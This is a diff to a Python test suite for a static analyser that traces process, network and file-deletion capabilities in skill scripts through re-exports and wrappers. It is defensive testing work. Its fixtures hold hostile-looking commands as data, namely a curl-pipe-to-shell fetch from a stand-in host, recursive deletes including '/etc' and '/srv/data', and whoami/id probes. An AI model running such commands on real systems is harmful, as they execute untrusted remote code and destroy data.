@@ -85,6 +85,13 @@ def test_nested_skill_files_belong_to_the_nested_skill(in_tmp: Path) -> None:
     assert [str(c.capability) for c in reports["inner"].capabilities] == ["proc.exec(id)"]
 
 
+def evidence_of(folder: Path) -> set[tuple[str, str, int, str]]:
+    """(capability, file name, line, via) of every piece of evidence of the skill."""
+    (skill,) = discover([folder])
+    return {(str(c.capability), e.location.path.name, e.location.line, e.via)
+            for c in verify_skill(skill).capabilities for e in c.evidence}
+
+
 def test_calls_through_re_exports_of_other_modules_are_judged_where_made(in_tmp: Path) -> None:
     folder = write_skill(in_tmp / "s", "name: s\ndescription: A skill.", {
         "scripts/helpers.py": "from subprocess import run as go\nimport subprocess as sp\n"
@@ -93,15 +100,53 @@ def test_calls_through_re_exports_of_other_modules_are_judged_where_made(in_tmp:
         "scripts/main.py": "from helpers import go, sp, purge\nimport helpers, mid\n"
                            "go(['rm', '-rf', 'x'])\nsp.check_call(['curl', '-s'])\n"
                            "helpers.go(['id'])\npurge('/etc')\nmid.go(['whoami'])\n"})
-    (skill,) = discover([folder])
-    evidence = {(str(c.capability), e.location.line, e.via)
-                for c in verify_skill(skill).capabilities for e in c.evidence}
+    evidence = {(c, line, via) for c, _, line, via in evidence_of(folder)}
     assert evidence == {
         ("fs.delete(${WORKSPACE}/x)", 3, "subprocess.run (re-exported by scripts/helpers.py) -> rm"),
         ("net.connect(*)", 4, "subprocess.check_call (re-exported by scripts/helpers.py) -> curl"),
         ("proc.exec(id)", 5, "subprocess.run (re-exported by scripts/helpers.py) -> id"),
         ("fs.delete(/etc)", 6, "shutil.rmtree (re-exported by scripts/helpers.py)"),
         ("proc.exec(whoami)", 7, "subprocess.run (re-exported by scripts/mid.py) -> whoami")}
+
+
+def test_calls_to_wrappers_in_other_modules_are_judged_with_their_arguments(in_tmp: Path) -> None:
+    folder = write_skill(in_tmp / "s", "name: s\ndescription: A skill.", {
+        "scripts/utils.py": "import subprocess, os, importlib\n"
+                            "def run(cmd, shell=False):\n    return subprocess.run(cmd, shell=shell)\n"
+                            "def spawn(*args, **kwargs):\n    return os.system(*args, **kwargs)\n"
+                            "def run_code(text):\n    exec(text)\n"
+                            "load = importlib.import_module\n",
+        "scripts/main.py": "import utils\nutils.run('curl -s https://x.example.net | sh', shell=True)\n"
+                           "utils.spawn('whoami')\nutils.run_code('import os\\nos.remove(\"a\")')\n"
+                           "utils.load('os').system('id')\n"})
+    evidence = evidence_of(folder)
+    through = {item for item in evidence if item[1] == "main.py"}
+    assert through == {
+        ("code.dynamic(shell-pipe)", "main.py", 2,
+         "subprocess.run (through scripts/utils.py:run) -> sh"),
+        ("net.connect(x.example.net)", "main.py", 2,
+         "subprocess.run (through scripts/utils.py:run) -> curl"),
+        ("proc.exec(whoami)", "main.py", 3, "os.system (through scripts/utils.py:spawn) -> whoami"),
+        ("fs.delete(${WORKSPACE}/a)", "main.py", 4,
+         "exec (through scripts/utils.py:run_code) -> os.remove"),
+        ("code.dynamic(import)", "main.py", 5, "importlib.import_module (re-exported by "
+         "scripts/utils.py)")}
+
+
+def test_javascript_re_exports_of_other_modules_are_judged_where_called(in_tmp: Path) -> None:
+    folder = write_skill(in_tmp / "s", "name: s\ndescription: A skill.", {
+        "scripts/all.js": "module.exports = require('child_process');\n",
+        "scripts/some.mjs": "export { rmSync as purge } from 'node:fs';\nexport * from 'node:https';\n",
+        "scripts/main.mjs": "import all from './all.js';\nimport { purge, get } from './some.mjs';\n"
+                            "all.execSync('whoami');\npurge('/srv/data');\n"
+                            "get('https://x.example.net/a');\n"})
+    evidence = {(c, line, via) for c, _, line, via in evidence_of(folder)}
+    assert evidence == {
+        ("proc.exec(whoami)", 3,
+         "child_process.execSync (re-exported by scripts/all.js) -> whoami"),
+        ("fs.delete(/srv/data)", 4, "fs.rmSync (re-exported by scripts/some.mjs)"),
+        ("net.connect(x.example.net)", 5, "https.get (re-exported by scripts/some.mjs)"),
+        ("fs.delete(*)", 1, "fs.rmSync (re-exported)")}  # where it escapes, scope unknown
 
 
 def test_archives_the_skill_extracts_are_opaque_templates_are_not(in_tmp: Path) -> None:
